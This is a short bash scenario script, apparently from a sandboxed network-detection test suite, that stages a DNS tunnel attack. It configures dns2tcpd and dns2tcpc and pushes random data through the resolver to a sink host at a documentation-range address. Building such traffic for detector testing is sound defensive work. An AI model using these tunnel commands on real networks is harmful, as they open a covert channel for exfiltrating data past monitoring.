# shellcheck shell=bash
# about: a TCP connection in DNS, through the resolver (dns2tcp)
# type: attack
# kind: dns_tunnel
# target: attacker dns 203.0.113.53
# source: attacker
# tools: dns2tcpc dns2tcpd ncat dnsmasq
# within_ms: 15000
play() {
	cat >"$WORK/dns2tcpd.conf" <<-END
		listen = $TUNNEL_IP
		port = 53
		user = nobody
		chroot = /tmp
		domain = tunnel.test
		key = secret
		resources = sink:203.0.113.99:9000
	END
	in_space world dns2tcpd -F -f "$WORK/dns2tcpd.conf" &
	started
	in_space world ncat -k -l 203.0.113.99 9000 --recv-only >/dev/null &
	started
	in_space attacker dns2tcpc -z tunnel.test -k secret -r sink -l 2222 "$DNS_IP" &
	started
	sleep 2
	head -c 20000 /dev/urandom | on attacker timeout 15 ncat -w 12 127.0.0.1 2222 >/dev/null
}
